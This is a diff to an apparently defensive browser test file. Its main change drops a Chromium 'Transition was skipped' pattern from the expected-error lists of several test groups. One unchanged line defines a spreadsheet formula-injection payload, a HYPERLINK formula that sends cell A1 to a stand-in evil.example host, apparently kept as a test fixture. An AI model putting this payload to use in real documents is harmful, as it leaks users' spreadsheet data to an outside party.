@@ -10,9 +10,6 @@ import { both, expect, test } from '../support/browser.ts';
 import { expectUsable, openOffice } from '../support/office-browser.ts';
 import { mailSaying } from '../support/site-mail.ts';
 
-// Chromium drops the cross-fade between two pages when the second is slow to come, and calls that an error of the page.
-test.use({ expectedErrors: [/Transition was skipped/] });
-
 const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")';
 const TRANSCRIPT = pdf(20_000);
 /** A name that would be markup, and one that would read backwards and lie elsewhere. */
@@ -143,7 +140,7 @@ test('on a small laptop the documents of a case are in sight at once', async ({ 
 });
 
 test.describe('a stale tab', () => {
-  test.use({ expectedErrors: [/Transition was skipped|status of 409/] });
+  test.use({ expectedErrors: [/status of 409/] });
 
   test('moves nothing and is told so kindly; what was typed becomes a message', async ({ page }) => {
     const made = await newCase(page);
@@ -186,7 +183,7 @@ test.describe('a stale tab', () => {
 
 test.describe('a move that fails', () => {
   test.use({
-    expectedErrors: [/Transition was skipped|status of 40[19]|ERR_FAILED/],
+    expectedErrors: [/status of 40[19]|ERR_FAILED/],
   });
 
   test('keeps what was typed: when the session is over, and when the answer is lost', async ({ page }) => {
